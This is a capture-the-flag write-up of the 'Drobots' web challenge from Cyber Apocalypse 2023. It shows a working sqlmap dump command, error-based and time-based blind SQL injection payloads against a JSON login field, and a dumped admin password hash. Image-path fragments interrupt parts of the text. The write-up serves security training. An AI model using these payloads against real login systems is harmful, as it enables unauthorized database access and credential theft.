Cyber Apocalypse 2023


Solved by Legend

Challenge description

Pandora’s latest mission as part of her reconnaissance training is to infiltrate the Drobots firm that was suspected of engaging in illegal activities. Can you help pandora with this task?

In this challenge the website is showing a login page.

Since no other info was there or in the source code of the page I checked the docker config file.

The website is a Flask application running on MySQL so I thought of SQL Injection cand be done. Here I found interesting thing that in config.py file theyhave provided the database information.

Also in the database.py also they have given the hint that the input is not sanitized. The logic of the database is that we need the token of the password to login. So if we can find the token we can login.

Then I saved the login request and gave it to sqlmap though which I was able to extract the details.

sqlmap -r ./req --dbms=mysql -D drobots -T users --dump

Parameter: JSON username ((custom) POST)
    Type: error-basedTitle: MySQL >= 5.0 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)
    Payload: {"username":"a"="a" AND (SELECT 5866 FROM(SELECT COUNT(*),CONCAT(0x7162717071,(SELECT (ELT(5866=5866,1))),0x716a767871,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a) AND "a"="a","password":"a"}

    Type: time-based blind
    Title: MySQL >= 5.0.12 AND time-based blind (query SLEEP)
    Payload: {"username":"a"="a" AND (SELECT 4022 FROM(SELECT(SLEEP(5)))iMan) AND "a"="a","password":"a"}

| id |password                         | username || 1  | 67772d6e54bc393a6f67e16bac3f83da | admin    |Once logged in we getthe flag.

Published on : 27 Mar 2023